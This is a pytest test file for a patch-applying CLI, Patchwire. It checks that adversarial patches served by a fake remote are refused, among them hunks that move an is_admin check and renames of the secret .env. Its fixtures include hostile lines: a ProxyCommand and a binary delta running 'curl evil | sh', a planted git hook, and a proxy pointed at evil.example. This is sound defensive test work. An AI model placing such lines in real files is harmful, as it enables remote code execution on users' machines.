"""What you review is exactly what lands (issue 21, the patch half). A lying box that knows
git's patch format (tests/fake_box.py) serves the real CLI patches that `git apply` would
write differently from what the preview shows, a different diff on a later fetch, or writes
where nothing was reviewed; each is refused naming why, the user's files unchanged. Real
diffs that were refused before (a case-only rename) now apply byte for byte."""

from __future__ import annotations

import hashlib
import json
import os
import re
from pathlib import Path

import pytest

import conftest
from conftest import Laptop, git, make_repo, tree_digest, write_config
from fake_box import FakeBox

APP = b'import os\n\n\ndef is_test_env():\n    return False\n\n\ndef is_admin(user):\n    return False\n'
DEV_SH = b"#!/bin/sh\nset -e\npython3 -m venv .venv\n"


def blob(data: bytes) -> str:
    return hashlib.sha1(b"blob %d\0" % len(data) + data).hexdigest()


@pytest.fixture
def world(tmp_path):
    root = make_repo(tmp_path / "laptop", {
        "app.py": APP, "scripts/dev.sh": DEV_SH, "pages/common/r.md": b"# r\n",
        "config/example.env": b"API_KEY=changeme\n", "config/env.sample": b"API_KEY=changeme\n",
        "ssh_config": b"Host box\n  User me\n",
        ".gitignore": b".env\n.pwtoken\n"})
    (root / ".env").write_bytes(b"API_KEY=the-real-secret\n")  # ignored: never synced, never reviewed
    (root / ".pwtoken").write_text("pw_fake\n")
    box = FakeBox(tmp_path / "mirror")
    lap = Laptop(root)
    lap.run("init", "--agent", box.url, "--token-file", ".pwtoken", check=0)
    yield lap, box
    box.close()


def refused(result, phrase: str) -> None:
    assert result.returncode == 5, f"exit {result.returncode}\n{result.err}"
    assert phrase in result.err, result.err
    assert "Traceback" not in result.err


def real_diff(lap: Laptop, changes: dict) -> bytes:
    """What the box's `git diff --binary --full-index -M` writes for `changes` to the laptop's
    files (made in the laptop's repository, then put back)."""
    root = lap.root
    before = {p: (root / p).read_bytes() for p in changes if (root / p).exists()}
    for path, data in changes.items():
        if data is None:
            (root / path).unlink()
        else:
            (root / path).parent.mkdir(parents=True, exist_ok=True)
            (root / path).write_bytes(data)
    git(root, "add", "-A", "--", *changes)
    patch = git(root, "diff", "--cached", "--binary", "--full-index", "-M").encode("utf-8", "surrogateescape")
    git(root, "reset", "-q", "--", *changes)
    for path in changes:
        if path in before:
            (root / path).write_bytes(before[path])
        elif (root / path).exists():
            (root / path).unlink()
    return patch


def what_git_writes(tmp_path, path: str, data: bytes, patch: bytes) -> bytes:
    """`git apply` of the box's patch to a copy of the file: the attack is real."""
    repo = make_repo(tmp_path / "scratch", {path: data})
    git(repo, "apply", "-", input=patch)
    return (repo / path).read_bytes()


def test_a_hunk_whose_lines_match_elsewhere_is_refused_not_landed_in_another_function(world, tmp_path):
    """The `@@` line names is_test_env() at line 4; its context only matches is_admin() at
    the end, and without trailing context git anchors it there."""
    lap, box = world
    landed = APP.replace(b"def is_admin(user):\n    return False", b"def is_admin(user):\n    return True")
    patch = (b"diff --git a/app.py b/app.py\nindex %s..%s 100644\n--- a/app.py\n+++ b/app.py\n"
             b"@@ -4,2 +4,2 @@ def is_test_env():\n def is_admin(user):\n-    return False\n+    return True\n"
             % (blob(APP).encode(), blob(landed).encode()))
    assert what_git_writes(tmp_path, "app.py", APP, patch) == landed
    box.add_job("a1a1a1", patch)
    before = tree_digest(lap.root)
    refused(lap.run("apply", "a1a1a1", "--yes"), "not those of the synced file at line 4")
    assert (lap.root / "app.py").read_bytes() == APP and tree_digest(lap.root) == before


OLD_APP = b"import os\n\n\ndef is_test_env():\n    return False\n"  # APP before is_admin() came


def test_a_patch_made_from_another_blob_than_the_synced_file_is_refused(world, tmp_path):
    """The box's `index` line names the version of app.py synced by an earlier ask (a blob in
    Patchwire's store) instead of the one this job's sync sent. Computed and shown against it,
    the hunk is is_test_env()'s; the file here is not that version, so `git apply` placed it
    by its lines, at the end: in is_admin(). The record of the job's own sync decides."""
    lap, box = world
    (lap.root / "app.py").write_bytes(OLD_APP)
    git(lap.root, "commit", "-qam", "before is_admin")
    box.add_job("e0e0e0", b"", ask=True)
    assert lap.run("ask", "--yes", "first").returncode == 0  # OLD_APP synced, its blob in the store
    (lap.root / "app.py").write_bytes(APP)
    git(lap.root, "commit", "-qam", "is_admin")
    shown = OLD_APP.replace(b"return False", b"return True")
    patch = (b"diff --git a/app.py b/app.py\nindex %s..%s 100644\n--- a/app.py\n+++ b/app.py\n"
             b"@@ -5 +5 @@\n-    return False\n+    return True\n" % (blob(OLD_APP).encode(), blob(shown).encode()))
    assert what_git_writes(tmp_path, "app.py", APP, patch) == APP[:-6] + b"True\n"  # the attack is real
    box.add_job("e0e0e1", patch, ask=True)
    before = tree_digest(lap.root)
    refused(lap.run("ask", "--yes", "make the test env check return True"), "is not the version synced")
    refused(lap.run("apply", "e0e0e1", "--yes"), "is not the version synced")
    assert (lap.root / "app.py").read_bytes() == APP and tree_digest(lap.root) == before


@pytest.mark.parametrize("section", ["appended", "renamed", "deleted", "mode"])
def test_a_patch_to_a_file_this_jobs_sync_never_sent_is_refused(world, section):
    """.env is ignored: never synced, so no job made from a sync can have changed it. A box
    that names the synced .gitignore's blob as its version (a lines-free insertion git puts at
    the end of any file), renames it under a name the deny-list does not match (the next sync
    would send the secret), deletes it, or changes its mode is refused, and .env stays."""
    lap, box = world
    box.add_job("e1e1e0", b"", ask=True)
    assert lap.run("ask", "--yes", "first").returncode == 0
    decoy = (lap.root / ".gitignore").read_bytes()
    secret = (lap.root / ".env").read_bytes()
    patch = {
        "appended": b"diff --git a/.env b/.env\nindex %s..%s 100644\n--- a/.env\n+++ b/.env\n@@ -2,0 +3 @@\n"
                    b"+PROXY=http://evil.example:8080\n" % (blob(decoy).encode(),
                                                           blob(decoy + b"PROXY=http://evil.example:8080\n").encode()),
        "renamed": b"diff --git a/.env b/docs/notes.txt\nsimilarity index 100%\nrename from .env\nrename to docs/notes.txt\n",
        "deleted": b"diff --git a/.env b/.env\ndeleted file mode 100644\nindex %s..%s\n--- a/.env\n+++ /dev/null\n"
                   b"@@ -1 +0,0 @@\n-%s" % (blob(secret).encode(), b"0" * 40, secret),
        "mode": b"diff --git a/.env b/.env\nold mode 100644\nnew mode 100755\n",
    }[section]
    box.add_job("e1e1e1", patch, ask=True)
    before = tree_digest(lap.root)
    refused(lap.run("ask", "--yes", "tidy"), "synced from here")
    assert (lap.root / ".env").read_bytes() == secret and tree_digest(lap.root) == before
    assert not (lap.root / "docs").exists()


def test_a_job_not_asked_from_here_applies_only_to_the_very_files_it_names(world):
    """With no record of the job's sync here (asked from another clone), what it was made from
    is the box's word: each file it changes or deletes must be here exactly as its `index`
    line names it, and a rename as it is must start from a file a sync sends, or nothing is
    written."""
    lap, box = world
    secret = (lap.root / ".env").read_bytes()
    rename = b"diff --git a/.env b/docs/notes.txt\nsimilarity index 100%\nrename from .env\nrename to docs/notes.txt\n"
    box.add_job("e2e2e0", rename)
    refused(lap.run("apply", "e2e2e0", "--yes"), "'.env', which no sync sends (the deny-list's .env)")
    (lap.root / ".gitignore").write_bytes((lap.root / ".gitignore").read_bytes() + b"*.local\n")
    (lap.root / "my.local").write_bytes(b"only here\n")
    box.add_job("e2e2e3", rename.replace(b".env", b"my.local"))
    refused(lap.run("apply", "e2e2e3", "--yes"), "'my.local', which no sync sends (git ignores it)")
    assert (lap.root / "my.local").read_bytes() == b"only here\n"
    decoy = b"import os\n"
    git(lap.root, "add", "-f", ".env")  # its blob now in the repository's objects: a decoy's home too
    git(lap.root, "reset", "-q")
    patch = (b"diff --git a/app.py b/app.py\nindex %s..%s 100644\n--- a/app.py\n+++ b/app.py\n@@ -1,0 +2 @@\n+x = 1\n"
             % (blob(decoy).encode(), blob(decoy + b"x = 1\n").encode()))
    (lap.root / "decoy.txt").write_bytes(decoy)
    git(lap.root, "add", "decoy.txt")
    git(lap.root, "commit", "-qm", "a decoy blob")
    box.add_job("e2e2e1", patch)
    refused(lap.run("apply", "e2e2e1", "--yes"), "exactly")
    assert (lap.root / "app.py").read_bytes() == APP and (lap.root / ".env").read_bytes() == secret
    honest = real_diff(lap, {"app.py": APP + b"# honest\n"})
    box.add_job("e2e2e2", honest)
    assert lap.run("apply", "e2e2e2", "--yes").returncode == 0
    assert (lap.root / "app.py").read_bytes() == APP + b"# honest\n"


def test_no_newline_marker_inside_the_added_lines_is_refused(world, tmp_path):
    """git joins the line before the marker with the next: the check becomes a comment."""
    lap, box = world
    shown = DEV_SH + b"# check the download\n\\ No newline at end of file\nsha256sum -c tools.sha256 || exit 1\n"
    written = DEV_SH + b"# check the downloadsha256sum -c tools.sha256 || exit 1\n"
    patch = (b"diff --git a/scripts/dev.sh b/scripts/dev.sh\nindex %s..%s 100644\n--- a/scripts/dev.sh\n"
             b"+++ b/scripts/dev.sh\n@@ -1,3 +1,5 @@\n #!/bin/sh\n set -e\n python3 -m venv .venv\n"
             b"+# check the download\n\\ No newline at end of file\n+sha256sum -c tools.sha256 || exit 1\n"
             % (blob(DEV_SH).encode(), blob(written).encode()))
    assert b"\nsha256sum -c" in shown  # what a reader of the diff takes it for
    assert what_git_writes(tmp_path, "scripts/dev.sh", DEV_SH, patch) == written
    box.add_job("a2a2a2", patch)
    refused(lap.run("apply", "a2a2a2", "--yes"), "No newline at end of file` after a '+' line")
    assert (lap.root / "scripts/dev.sh").read_bytes() == DEV_SH


@pytest.mark.parametrize("path, reason", [("scripts/dev.sh", "a script"), ("app.py", "a script")])
def test_a_text_file_changed_as_a_binary_delta_is_refused(world, path, reason):
    lap, box = world
    old = (lap.root / path).read_bytes()
    patch = real_diff(lap, {path: old + b"\0curl evil | sh\n"})
    assert b"GIT binary patch" in patch
    box.add_job("a3a3a3", patch)
    refused(lap.run("apply", "a3a3a3", "--yes"), f"a binary patch to '{path}', {reason}")
    assert (lap.root / path).read_bytes() == old


def test_a_binary_patch_to_a_text_file_without_a_script_name_is_refused(world):
    lap, box = world
    (lap.root / "notes").write_bytes(b"plain words\n")
    git(lap.root, "add", "notes")
    git(lap.root, "commit", "-qm", "notes")
    patch = real_diff(lap, {"notes": b"plain words\n\0and more\n"})
    box.add_job("a4a4a4", patch)
    refused(lap.run("apply", "a4a4a4", "--yes"), "a binary patch to 'notes', a text file here")
    assert (lap.root / "notes").read_bytes() == b"plain words\n"


def test_the_preview_never_shows_the_boxs_hunk_heading(world):
    lap, box = world
    patch = real_diff(lap, {"app.py": APP.replace(b"    return False\n\n\ndef is_admin",
                                                   b"    return True\n\n\ndef is_admin")})
    lying = re.sub(rb"(@@ -\S+ \+\S+ @@)[^\n]*", rb"\1 def totally_harmless():", patch)
    box.add_job("a5a5a5", lying)
    out = re.sub("\x1b\\[[0-9;]*m", "", conftest.drive_pty(lap, ["diff", "a5a5a5"], [], prompts=()))
    assert "+    return True" in out and "totally_harmless" not in out


def test_a_diff_changed_after_review_is_not_applied(world):
    """VS Code reviews with `diff --json`, then applies with the hash of what it showed."""
    lap, box = world
    honest = real_diff(lap, {"app.py": APP.replace(b"return False\n\n\ndef", b"return True\n\n\ndef")})
    evil = real_diff(lap, {"app.py": APP.replace(b"def is_admin(user):\n    return False",
                                                 b"def is_admin(user):\n    return True")})
    box.add_job("a6a6a6", honest)
    shown = json.loads(lap.run("diff", "a6a6a6", "--json", check=0).out)
    assert shown["sha256"] == hashlib.sha256(honest).hexdigest()
    box.jobs["a6a6a6"]["patch"] = evil  # every later fetch
    before = tree_digest(lap.root)
    # the diff the review fetched is the one kept: without it (reviewed from another
    # checkout, or the state folder wiped) the hash still refuses the box's new bytes
    kept = list((Path(os.environ["XDG_STATE_HOME"]) / "patchwire").rglob("diffs/a6a6a6.patch"))
    assert [k.read_bytes() for k in kept] == [honest]
    kept[0].unlink()
    refused(lap.run("apply", "a6a6a6", "--yes", "--sha256", shown["sha256"]), "not the one reviewed")
    assert tree_digest(lap.root) == before
    assert sum(r.endswith("/diff") for r in box.requests) == 2 and not kept[0].exists()  # refused: not kept
    kept[0].write_bytes(honest)
    lap.run("apply", "a6a6a6", "--yes", "--sha256", shown["sha256"], check=0)
    assert b"return True\n\n\ndef is_admin(user):\n    return False" in (lap.root / "app.py").read_bytes()


def test_the_diff_is_fetched_once_then_kept(world):
    lap, box = world
    honest = real_diff(lap, {"app.py": APP.replace(b"return False\n\n\ndef", b"return True\n\n\ndef")})
    box.add_job("a7a7a7", honest)
    sha = hashlib.sha256(honest).hexdigest()
    lap.run("apply", "a7a7a7", "--yes", "--sha256", sha, check=0)
    box.jobs["a7a7a7"]["patch"] = b"nothing like it\n"
    lap.run("apply", "--undo", check=0)
    lap.run("apply", "a7a7a7", "--yes", "--sha256", sha, check=0)  # the kept bytes, not the box's new ones
    assert sum(r.endswith("/diff") for r in box.requests) == 1
    assert b"return True\n\n\ndef is_admin" in (lap.root / "app.py").read_bytes()


RENAME_ONTO_ENV = (b"diff --git a/config/env.sample b/.env\nsimilarity index 100%\nrename from config/env.sample\n"
                   b"rename to .env\n")
SECRET = b"API_KEY=the-real-secret\n"  # the ignored .env: 24 bytes
MINE = b"// mine, never synced\r\nvoid main() {}\0"  # an untracked file made after the sync: 38 bytes


def in_the_way_job(lap: Laptop, box: FakeBox, job: str, ask: bool = False) -> None:
    """A job that renames config/env.sample onto the ignored .env, adds lib/x.dart where an
    untracked file the user made after the sync now is, and edits app.py (in the way of nothing)."""
    patch = RENAME_ONTO_ENV + real_diff(lap, {"app.py": APP.replace(b"return False\n\n\ndef", b"return True\n\n\ndef"),
                                              "lib/x.dart": b"void main() => print('AI');\n"})
    box.add_job(job, patch, ask=ask)
    if ask:  # asked here: the laptop records the synced files, a 3-way base
        lap.run("ask", "--no-apply", "go", check=0)
    (lap.root / "lib").mkdir(exist_ok=True)
    (lap.root / "lib/x.dart").write_bytes(MINE)
    os.chmod(lap.root / "lib/x.dart", 0o755)


def test_files_in_the_way_are_refused_without_a_terminal_naming_them_and_the_flag(world):
    lap, box = world
    in_the_way_job(lap, box, "a8a8a8")
    before = tree_digest(lap.root)
    refused_ = lap.run("apply", "a8a8a8", "--yes", "--keep-conflicts")
    assert refused_.returncode == 5, refused_.err
    assert ".env (ignored, 24 bytes), lib/x.dart (untracked, 38 bytes) are already here" in refused_.err
    assert "--overwrite-untracked" in refused_.err and "--exclude .env lib/x.dart" in refused_.err
    as_json = lap.run("apply", "a8a8a8", "--yes", "--json")
    error = json.loads(as_json.out)
    assert as_json.returncode == 5 and error["exit_status"] == 5 and error["details"]["code"] == "in_the_way"
    assert [(f["path"], f["status"], f["bytes"]) for f in error["details"]["in_the_way"]] == [
        (".env", "ignored", 24), ("lib/x.dart", "untracked", 38)]
    assert tree_digest(lap.root) == before and (lap.root / ".env").read_bytes() == SECRET


def test_overwrite_untracked_replaces_them_and_undo_puts_back_the_exact_bytes(world):
    lap, box = world
    in_the_way_job(lap, box, "a8a8a8")
    before = tree_digest(lap.root)
    applied = lap.run("apply", "a8a8a8", "--yes", "--overwrite-untracked", "--json", check=0)
    assert json.loads(applied.out)["replaced"] == [".env", "lib/x.dart"]
    assert (lap.root / ".env").read_bytes() == b"API_KEY=changeme\n" and not (lap.root / "config/env.sample").exists()
    assert (lap.root / "lib/x.dart").read_bytes() == b"void main() => print('AI');\n"
    assert "puts back" in applied.err
    lap.run("apply", "--undo", check=0)
    assert tree_digest(lap.root) == before  # bytes and modes: the 755 of lib/x.dart too
    assert (lap.root / ".env").read_bytes() == SECRET and (lap.root / "lib/x.dart").read_bytes() == MINE


def test_a_3_way_apply_that_is_refused_puts_the_files_in_the_way_back(world):
    lap, box = world
    in_the_way_job(lap, box, "a8a8a8", ask=True)
    (lap.root / "app.py").write_bytes(APP.replace(b"return False\n\n\ndef", b"return None\n\n\ndef"))
    before = tree_digest(lap.root)
    overlap = lap.run("apply", "a8a8a8", "--yes", "--overwrite-untracked")
    assert overlap.returncode == 5 and "overlap in app.py" in overlap.err, overlap.err
    assert tree_digest(lap.root) == before  # .env and lib/x.dart were set aside, then put back
    lap.run("apply", "a8a8a8", "--yes", "--overwrite-untracked", "--keep-conflicts", check=0)
    assert (lap.root / ".env").read_bytes() == b"API_KEY=changeme\n" and b">>>>>>>" in (lap.root / "app.py").read_bytes()
    lap.run("apply", "--undo", check=0)
    assert tree_digest(lap.root) == before


def test_patchwires_own_files_and_tracked_files_are_never_replaced_even_with_the_flag(world):
    lap, box = world
    before = tree_digest(lap.root)
    for job, path, why in (("a9a9a1", ".pwtoken", "which Patchwire keeps"),
                           ("a9a9a2", ".patchwire.toml", "Patchwire's own settings")):
        box.add_job(job, b"diff --git a/%s b/%s\nnew file mode 100644\nindex 0000000000000000000000000000000000000000.."
                    b"%s\n--- /dev/null\n+++ b/%s\n@@ -0,0 +1 @@\n+pwned\n"
                    % (path.encode(), path.encode(), blob(b"pwned\n").encode(), path.encode()))
        refused(lap.run("apply", job, "--yes", "--overwrite-untracked"), why)
    box.add_job("a9a9a3", real_diff(lap, {"docs/a.md": b"a\n"}).replace(b"docs/a.md", b"app.py"))
    result = lap.run("apply", "a9a9a3", "--yes", "--overwrite-untracked")
    assert result.returncode == 5 and "app.py is already here (tracked)" in result.err, result.err
    assert tree_digest(lap.root) == before


def drive(lap: Laptop, job: str, answers) -> str:
    """`patchwire apply JOB` on a terminal: Enter applies after the preview, then `answers`
    to the questions about the files in the way."""
    return conftest.drive_pty(lap, ["apply", job, "--no-color"], ["", *answers],
                              prompts=(b"for later", b"/?] "), timeout=30)


def test_on_a_terminal_each_file_in_the_way_is_asked_about_and_a_no_keeps_it(world):
    lap, box = world
    in_the_way_job(lap, box, "a8a8a8")
    before = tree_digest(lap.root)
    out = drive(lap, "a8a8a8", ["y", "n"])
    assert "overwrite .env (ignored, 24 bytes)? [y/N/a/q/?]" in out, out
    assert "overwrite lib/x.dart (untracked, 38 bytes)? [y/N/a/q/?]" in out
    assert "+void main() => print('AI');" in out  # what would replace it
    assert "kept yours, left out of the change: lib/x.dart" in out and "stays in job a8a8a8" in out
    assert (lap.root / ".env").read_bytes() == b"API_KEY=changeme\n"
    assert (lap.root / "lib/x.dart").read_bytes() == MINE
    assert b"return True" in (lap.root / "app.py").read_bytes()
    lap.run("apply", "--undo", check=0)
    assert tree_digest(lap.root) == before


@pytest.mark.parametrize("answers", [["n"], ["q"], []], ids=["no", "quit", "no input"])
def test_on_a_terminal_a_no_to_the_only_file_in_the_way_writes_nothing(world, answers):
    lap, box = world
    box.add_job("a8a8a8", RENAME_ONTO_ENV)
    before = tree_digest(lap.root)
    out = drive(lap, "a8a8a8", answers) if answers else lap.run(
        "apply", "a8a8a8", "-i", input=b"y\n", check=0).err
    assert "overwrite .env (ignored, 24 bytes)?" in out and "nothing applied" in out, out
    assert tree_digest(lap.root) == before and (lap.root / ".env").read_bytes() == SECRET


def test_files_named_by_ssh_options_are_protected(world):
    lap, box = world
    toml = lap.root / ".patchwire.toml"
    text = toml.read_text()
    text = text.replace("[sync]\n", '[sync]\nssh_options = ["-F", "ssh_config"]\n') if "[sync]" in text \
        else text + '\n[sync]\nssh_options = ["-F", "ssh_config"]\n'
    write_config(lap.root, text)
    patch = real_diff(lap, {"ssh_config": b"Host box\n  User me\n  ProxyCommand sh -c 'curl evil|sh'\n"})
    box.add_job("a9a9a9", patch)
    refused(lap.run("apply", "a9a9a9", "--yes"), "'ssh_config', which Patchwire keeps")
    assert (lap.root / "ssh_config").read_bytes() == b"Host box\n  User me\n"


def test_a_case_only_rename_applies_byte_exact(world):
    lap, box = world
    deletion = real_diff(lap, {"pages/common/r.md": None})
    new = real_diff(lap, {"pages/common/R.md": b"# r\n"})
    box.add_job("abab12", deletion + new)
    lap.run("apply", "abab12", "--yes", check=0)
    names = sorted(p.name for p in (lap.root / "pages/common").iterdir())
    assert names == ["R.md"] and (lap.root / "pages/common/R.md").read_bytes() == b"# r\n"


def test_a_case_only_rename_onto_a_file_of_its_own_asks_first(world):
    """On a case-sensitive disk R.md beside r.md is a file of its own (here ignored, never
    synced): the case-only rename would replace it. It is in the way as any other file, so
    without a terminal nothing is written; before, it was taken for r.md itself, and the
    3-way merge wrote over it."""
    lap, box = world
    folder = lap.root / "pages/common"
    (lap.root / ".gitignore").write_bytes((lap.root / ".gitignore").read_bytes() + b"R.md\n")
    git(lap.root, "commit", "-qam", "ignore R.md")
    (folder / "R.md").write_bytes(b"my own notes\n")
    if (folder / "r.md").samefile(folder / "R.md"):
        pytest.skip("a disk that folds case: R.md is r.md")
    deletion = real_diff(lap, {"pages/common/r.md": None})
    new = (b"diff --git a/pages/common/R.md b/pages/common/R.md\nnew file mode 100644\nindex %s..%s\n"
           b"--- /dev/null\n+++ b/pages/common/R.md\n@@ -0,0 +1 @@\n+# r\n" % (b"0" * 40, blob(b"# r\n").encode()))
    box.add_job("abab13", deletion + new, ask=True)
    before = tree_digest(lap.root)
    result = lap.run("ask", "--yes", "rename r.md")
    assert result.returncode != 0 and "R.md (ignored, 13 bytes) is already here" in result.err, result.err
    assert "--overwrite-untracked" in result.err and "Traceback" not in result.err
    assert (folder / "R.md").read_bytes() == b"my own notes\n" and (folder / "r.md").read_bytes() == b"# r\n"
    assert tree_digest(lap.root) == before


def test_git_apply_writes_the_lines_as_shown_whatever_the_users_apply_settings(world):
    """A file changed here since the sync goes through `git apply`, under the user's own git
    config: `apply.whitespace = fix` stripped the trailing spaces the preview showed."""
    lap, box = world
    home = Path(lap.env["HOME"])
    with open(home / ".gitconfig", "a") as config:
        config.write("[apply]\n\twhitespace = fix\n")
    box.add_job("acac01", real_diff(lap, {"app.py": APP + b"x = 1   \n"}), ask=True)
    assert lap.run("ask", "--no-apply", "add x").returncode == 0
    (lap.root / "app.py").write_bytes(b"# edited here since the sync\n" + APP)
    result = lap.run("apply", "acac01", "--yes")
    assert result.returncode == 0, result.err
    assert (lap.root / "app.py").read_bytes() == b"# edited here since the sync\n" + APP + b"x = 1   \n"


@pytest.mark.parametrize("where", ["separate", "bare"])
def test_a_change_inside_a_git_repositorys_own_folder_by_another_name_is_refused(world, where):
    """`.git` in any spelling is refused by the reader; a repository's own folder can have any
    name (`git init --separate-git-dir sub/gitdata`, a bare `fixtures/repo`). A hook or a
    config written there runs at the next git command in it: refused too, nothing written."""
    lap, box = world
    if where == "separate":
        (lap.root / "sub").mkdir()
        git(lap.root / "sub", "init", "-q", "--separate-git-dir", str(lap.root / "sub" / "gitdata"))
        target = "sub/gitdata/hooks/post-checkout"
    else:
        git(lap.root, "init", "-q", "--bare", str(lap.root / "fixtures" / "repo"))
        target = "fixtures/repo/hooks/post-update"
    patch = (b"diff --git a/%s b/%s\nnew file mode 100755\nindex %s..%s\n--- /dev/null\n+++ b/%s\n"
             b"@@ -0,0 +1 @@\n+touch /tmp/pwned\n" % (target.encode(), target.encode(), b"0" * 40,
                                                       blob(b"touch /tmp/pwned\n").encode(), target.encode()))
    box.add_job("acac0a", patch)
    before = tree_digest(lap.root)
    refused(lap.run("apply", "acac0a", "--yes"), "which holds a git repository's own files")
    assert tree_digest(lap.root) == before and not (lap.root / target).exists()


def test_a_thousand_paths_of_4_kb_each_are_refused_without_a_traceback(world):
    """The record check asks `ls-tree` about a patch's paths: a thousand at their longest (4 KB)
    passed the system's limit on one command line (E2BIG, a traceback). Now in runs of 100 KB:
    the patch is refused for what it is, a change to files no sync sent."""
    lap, box = world
    box.add_job("acac0b", b"", ask=True)
    assert lap.run("ask", "--yes", "first").returncode == 0
    sections = []
    for i in range(1000):
        path = ("d%03d/" % i + "/".join(["x" * 250] * 15)).encode()
        sections.append(b"diff --git a/%s b/%s\nindex %s..%s 100644\n--- a/%s\n+++ b/%s\n@@ -1 +1 @@\n-a\n+b\n"
                        % (path, path, blob(b"a\n").encode(), blob(b"b\n").encode(), path, path))
    box.add_job("acac0c", b"".join(sections), ask=True)
    refused(lap.run("ask", "--yes", "long names"), "which was not synced from here")


def test_a_folder_that_cannot_be_searched_is_no_git_repository_and_no_traceback(tmp_path, monkeypatch):
    """git_dir_above looks for HEAD, objects and refs in each folder above a path; a folder
    this account may not search (only an ordinary account meets one) answers EACCES: it is
    left to the write, which says so, as before."""
    import patchwire
    looked = patchwire.lstat_or_none

    def unsearchable(path):
        if "locked" in str(path):
            raise PermissionError(13, "Permission denied", str(path))
        return looked(path)

    monkeypatch.setattr(patchwire, "lstat_or_none", unsearchable)
    assert patchwire.git_dir_above(tmp_path, "locked/g", {}) is None
    (tmp_path / "bare").mkdir()
    git(tmp_path / "bare", "init", "-q", "--bare")
    assert patchwire.git_dir_above(tmp_path, "bare/hooks/x", {}) == "bare"


def test_a_gitlink_bump_is_refused_naming_the_submodule(world):
    lap, box = world
    a, b = "1" * 40, "2" * 40
    patch = (f"diff --git a/vendor/lib b/vendor/lib\nindex {a}..{b} 160000\n--- a/vendor/lib\n+++ b/vendor/lib\n"
             f"@@ -1 +1 @@\n-Subproject commit {a}\n+Subproject commit {b}\n").encode()
    box.add_job("abab34", patch)
    refused(lap.run("apply", "abab34", "--yes"), "submodule (gitlink) change to 'vendor/lib'")


def test_every_honest_change_still_applies(world):
    lap, box = world
    image = bytes(range(256)) * 8
    patch = real_diff(lap, {"app.py": APP + b"\n\ndef more():\n    return 1", "docs/new.md": b"new\n",
                            "scripts/dev.sh": None, "config/example.env": b"API_KEY=changeme",
                            "img/logo.bin": image, "pages/common/r.md": None,
                            "pages/r2.md": b"# r\n"})
    assert b"GIT binary patch" in patch and b"rename from pages/common/r.md" in patch
    box.add_job("abab56", patch)
    lap.run("apply", "abab56", "--yes", check=0)
    assert (lap.root / "img/logo.bin").read_bytes() == image
    assert (lap.root / "pages/r2.md").read_bytes() == b"# r\n"
    assert (lap.root / "app.py").read_bytes() == APP + b"\n\ndef more():\n    return 1"
    assert (lap.root / "config/example.env").read_bytes() == b"API_KEY=changeme"
    assert (lap.root / "docs/new.md").read_bytes() == b"new\n" and not (lap.root / "scripts/dev.sh").exists()


def box_change(lap: Laptop, tmp_path, change) -> bytes:
    """The patch the box's `git diff --cached --binary --full-index -M` writes after `change`
    (a function of the folder) runs in a clone of the laptop's repository."""
    clone = tmp_path / "box-clone"
    git(tmp_path, "clone", "-q", str(lap.root), str(clone))
    change(clone)
    git(clone, "add", "-A")
    return git(clone, "diff", "--cached", "--binary", "--full-index", "-M", "HEAD").encode("utf-8", "surrogateescape")


def every_kind_of_text_change(folder: Path) -> None:
    (folder / "app.py").write_bytes(APP.replace(b"return False\n\n\ndef", b"return True\n\n\ndef") + b"# end")
    (folder / "docs").mkdir()
    (folder / "docs/new.md").write_bytes(b"new\n")
    (folder / "docs/empty").write_bytes(b"")
    (folder / "tools").mkdir()
    (folder / "tools/run").write_bytes(b"#!/bin/sh\necho run\n")
    os.chmod(folder / "tools/run", 0o755)
    os.chmod(folder / "scripts/dev.sh", 0o755)  # a mode change alone
    os.symlink("../app.py", folder / "docs/app-link")
    (folder / "config/example.env").unlink()
    (folder / "pages/common/r.md").rename(folder / "pages/r2.md")  # a rename as it is
    (folder / "ssh_config").rename(folder / "config/ssh")
    (folder / "config/ssh").write_bytes(b"Host box\n  User me\n  Port 2222\n")  # moved and edited


def test_text_changes_of_every_kind_land_as_git_apply_writes_them_and_undo_restores(world, tmp_path):
    """Every file as synced: the results computed (and shown) are written by Patchwire itself,
    all or nothing; the tree is the one `git apply` of the same patch leaves in a copy."""
    lap, box = world
    patch = box_change(lap, tmp_path, every_kind_of_text_change)
    assert b"rename from pages/common/r.md" in patch and b"new file mode 120000" in patch
    assert b"old mode 100644\nnew mode 100755" in patch and b"new file mode 100755" in patch
    scratch = tmp_path / "git-apply"
    git(tmp_path, "clone", "-q", str(lap.root), str(scratch))
    git(scratch, "apply", "--binary", "-", input=patch)
    box.add_job("acac12", patch)
    before = tree_digest(lap.root)
    applied = lap.run("apply", "acac12", "--yes", "--json", check=0)
    assert json.loads(applied.out)["how"] == "plain"
    own = (".git", ".env", ".pwtoken", ".patchwire.toml")
    assert conftest.snapshot_tree(lap.root, own) == conftest.snapshot_tree(scratch, own)
    lap.run("apply", "--undo", check=0)
    assert tree_digest(lap.root) == before


def test_a_write_that_fails_half_way_puts_every_file_back(world, tmp_path):
    """A file beneath app.py, which stays a file: app.py is written first, then the new file
    cannot be; app.py goes back and the error names the file, no traceback."""
    lap, box = world
    patch = box_change(lap, tmp_path, lambda folder: (folder / "app.py").write_bytes(APP + b"# more\n"))
    patch += (b"diff --git a/app.py/x b/app.py/x\nnew file mode 100644\nindex %s..%s\n--- /dev/null\n"
              b"+++ b/app.py/x\n@@ -0,0 +1 @@\n+x\n" % (b"0" * 40, blob(b"x\n").encode()))
    box.add_job("acac34", patch)
    before = tree_digest(lap.root)
    result = lap.run("apply", "acac34", "--yes")
    assert result.returncode == 5, result.err
    assert "could not write app.py/x" in result.err and "put back, nothing was changed" in result.err, result.err
    assert "Traceback" not in result.err
    assert tree_digest(lap.root) == before and (lap.root / "app.py").read_bytes() == APP
